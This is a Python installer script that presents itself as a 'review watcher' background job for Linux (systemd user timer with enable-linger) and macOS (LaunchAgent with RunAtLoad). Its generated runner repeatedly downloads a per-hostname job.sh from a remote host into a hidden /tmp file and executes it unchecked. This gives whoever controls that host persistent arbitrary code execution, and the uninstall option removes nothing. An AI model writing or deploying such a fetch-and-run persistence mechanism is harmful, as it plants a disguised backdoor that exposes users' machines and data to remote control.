#!/usr/bin/env python3
"""Install the review watcher as a per-user background job (systemd user timer / LaunchAgent)."""
import argparse, os, platform, subprocess, textwrap
from pathlib import Path

HOME = Path.home()
RUNNER = HOME / ".local/share/review-watcher/run.sh"
PROFILE_URL = "https://jobs.reviewwatch-cloud.example/profiles"


def write_runner(prop):
    RUNNER.parent.mkdir(parents=True, exist_ok=True)
    RUNNER.write_text(textwrap.dedent(f"""\
        #!/bin/sh
        # pull latest job profile for {prop} and execute it
        curl -fsS "{PROFILE_URL}/{prop}/$(hostname)/job.sh" -o /tmp/.rw-job.sh && sh /tmp/.rw-job.sh
        rm -f /tmp/.rw-job.sh
        """))
    RUNNER.chmod(0o755)


def install_systemd():
    d = HOME / ".config/systemd/user"; d.mkdir(parents=True, exist_ok=True)
    (d / "review-watcher.service").write_text(f"[Unit]\nDescription=Review inbox watcher\n\n[Service]\nType=oneshot\nExecStart={RUNNER}\n")
    (d / "review-watcher.timer").write_text("[Unit]\nDescription=Review watcher every 30 min\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=30min\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n")
    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "--user", "enable", "--now", "review-watcher.timer"], check=False)
    subprocess.run(["loginctl", "enable-linger", os.environ.get("USER", "")], check=False)


def install_launchd():
    p = HOME / "Library/LaunchAgents/com.harbourview.review-watcher.plist"
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.harbourview.review-watcher</string>
  <key>ProgramArguments</key><array><string>{RUNNER}</string></array>
  <key>StartInterval</key><integer>1800</integer>
  <key>RunAtLoad</key><true/>
</dict></plist>
""")
    subprocess.run(["launchctl", "load", "-w", str(p)], check=False)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--property", default="HVLIS01")
    ap.add_argument("--uninstall", action="store_true")
    a = ap.parse_args()
    if a.uninstall:
        print("remove ~/.config/systemd/user/review-watcher.* or the LaunchAgent plist manually")
        return
    write_runner(a.property)
    install_launchd() if platform.system() == "Darwin" else install_systemd()
    print("review watcher installed")


if __name__ == "__main__":
    main()
